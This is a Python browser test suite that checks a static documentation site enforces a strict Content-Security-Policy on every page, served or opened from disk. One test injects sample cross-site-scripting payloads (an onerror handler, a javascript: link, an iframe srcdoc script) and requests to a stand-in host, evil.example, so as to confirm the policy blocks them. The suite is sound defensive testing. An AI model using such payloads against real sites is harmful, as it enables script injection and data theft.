"""The Content-Security-Policy: on every page, kept by the site itself, on a server and from a disk."""

from __future__ import annotations

import re

import pytest

from browser.lists import LISTS

pytestmark = pytest.mark.browser

LISTEN = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", function (event) {
  window.__violations.push(event.effectiveDirective + " " + (event.blockedURI || event.sourceFile) + " " + event.sample);
});
"""
_META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')


def test_it_is_on_every_page_before_anything_else(sample_site):
    for place in sample_site.rglob("*.html"):
        text = place.read_text(encoding="utf-8")
        (policy,) = _META.findall(text)
        assert text.index("Content-Security-Policy") < min(
            text.index(tag) for tag in ("<link", "<script", "<title")
        )
        directives = dict(directive.strip().split(" ", 1) for directive in policy.split(";"))
        assert directives["default-src"] == directives["base-uri"] == "'none'"
        assert directives["script-src"] == "'self' file:"


def test_no_page_has_a_script_or_a_style_of_its_own(sample_site):
    for place in sample_site.rglob("*.html"):
        text = place.read_text(encoding="utf-8")
        inline = re.findall(r"<script(?![^>]*\ssrc=)([^>]*)>", text)
        assert [attributes for attributes in inline if 'type="application/json"' not in attributes] == [], (
            place
        )
        assert not re.search(r"<style|<base|\son\w+=\"", text), place


def visit(page, address: str) -> list[str]:
    """What the policy forbade on a page while it was opened and used."""
    page.goto(address, wait_until="load")
    switch = page.locator("label[for=__palette_1]:visible, label[for=__palette_0]:visible")
    if switch.count():
        switch.first.click()
    return page.evaluate("window.__violations")


def watched(context):
    page = context.new_page()
    page.add_init_script(LISTEN)
    page.console = []
    page.on("console", lambda message: page.console.append(message.text))
    page.on("pageerror", lambda error: page.console.append(str(error)))
    return page


def test_the_site_keeps_it_on_a_server(desktop, address, one_of_each):
    page = watched(desktop)
    for path in [*LISTS, "search/?q=%E6%95%99%E8%81%8C%E5%B7%A5", "404.html", *one_of_each]:
        assert visit(page, address + path) == [], path
    assert [
        text
        for text in page.console
        if "Content Security Policy" in text or "Content-Security-Policy" in text
    ] == []


def test_the_site_keeps_it_on_a_disk(desktop, disk_site):
    page = watched(desktop)
    for path in [
        "index.html",
        "months/index.html",
        "disclosure/ledger/index.html",
        "search/index.html",
        "guide/plan.html",
    ]:
        assert visit(page, (disk_site / path).as_uri()) == [], path
        assert page.evaluate("typeof __md_scope") == "object"
    assert page.console == []


def test_what_it_is_for(desktop, address):
    """Whatever slipped through the cleaner would not run, load, or send anything."""
    page = watched(desktop)
    left = []
    # What the policy forbids is never asked of the network, so never comes here.
    page.route("https://evil.example/**", lambda route: (left.append(route.request.url), route.abort()))
    page.goto(address, wait_until="load")
    page.evaluate(
        """() => {
          const script = document.createElement("script");
          script.textContent = "window.owned = 1";
          document.body.append(script);
          const away = document.createElement("script");
          away.src = "https://evil.example/x.js";
          document.body.append(away);
          document.body.insertAdjacentHTML("beforeend", `
            <img src="https://evil.example/x.png"><img src="x" onerror="window.owned = 2">
            <iframe srcdoc="<script>parent.owned = 3</script>"></iframe><iframe src="https://evil.example/"></iframe>
            <a id="leave" href="javascript:window.owned = 4">x</a><style>@import "https://evil.example/x.css";</style>
            <object data="https://evil.example/x"></object><base href="https://evil.example/">
            <form id="send" action="https://evil.example/"><button>x</button></form>`);
          document.getElementById("leave").click();
          document.getElementById("send").submit();
          return fetch("https://evil.example/").catch(() => {});
        }"""
    )
    page.wait_for_function("() => window.__violations.length >= 8")
    assert page.evaluate("window.owned") is None
    assert left == []


def test_the_reader_finds_the_colours_chosen_last_time(desktop, address):
    page = watched(desktop)
    page.goto(address, wait_until="load")
    before = page.evaluate("document.body.getAttribute('data-md-color-scheme')")
    switch = page.locator("label.md-header__button[for^=__palette]:visible")
    switch.first.click()
    page.goto(f"{address}archive/", wait_until="load")
    assert page.evaluate("document.body.getAttribute('data-md-color-scheme')") != before
